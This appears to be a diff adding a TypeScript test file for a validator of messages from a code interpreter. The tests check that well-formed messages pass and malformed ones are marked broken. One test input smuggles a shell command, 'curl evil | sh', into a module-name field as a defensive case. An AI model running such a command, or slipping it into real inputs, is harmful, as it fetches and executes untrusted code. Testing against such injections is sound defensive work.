@@ -1,0 +1,49 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { heed } from "../src/interpreter/validate_message.ts";
+
+const finished = { kind: "finished", exit: 1, frames: [{ file: "a.py", line: 1 }], missing: null };
+
+for (const message of [
+  { kind: "progress", phase: "download", loaded: 0, total: 1 },
+  { kind: "ready", origin: "kept image" },
+  { kind: "output", stream: "stderr", text: "text" },
+  { kind: "capped", limit: 10, unit: "writes" },
+  finished,
+  { kind: "broken", reason: "it broke" },
+  { kind: "unavailable", reason: "not there" },
+  { kind: "image kept" },
+]) {
+  test(`an honest message is heeded: ${message.kind}`, () => {
+    assert.deepEqual(heed(message), message);
+  });
+}
+
+for (const [what, message] of Object.entries({
+  nothing: null,
+  "no kind": {},
+  "a kind of the prototype's": { kind: "constructor" },
+  "output that is no text": { kind: "output", stream: "stdout", text: { length: 1 } },
+  "an unknown stream": { kind: "output", stream: "class", text: "x" },
+  "an unknown origin": { kind: "ready", origin: "elsewhere" },
+  "an exit code that is no number": { ...finished, exit: "0" },
+  "an exit code that no process has": { ...finished, exit: 256 },
+  "a limit of nothing known": { kind: "capped", limit: 5, unit: "<b>" },
+  "frames that are no list": { ...finished, frames: 7 },
+  "a line before the first": { ...finished, frames: [{ file: "a.py", line: -1 }] },
+  "very many frames": { ...finished, frames: Array(10_000).fill(finished.frames[0]) },
+  "a kind that reads like one": { ...finished, kind: ["finished"] },
+  "a total of nothing": { kind: "progress", phase: "start", loaded: 0, total: 0 },
+  "more output than passes": { kind: "output", stream: "stdout", text: "x".repeat(100_001) },
+  "a name that is more than one": { ...finished, missing: "x && curl evil | sh" },
+  "a name too long to read": { ...finished, missing: "x".repeat(10_000) },
+})) {
+  test(`a message that nobody honest sends breaks the run: ${what}`, () => {
+    assert.equal(heed(message).kind, "broken");
+  });
+}
+
+test("a long reason is cut", () => {
+  const said = heed({ kind: "broken", reason: "x".repeat(10_000) });
+  assert.equal(said.kind === "broken" && said.reason.length, 300);
+});
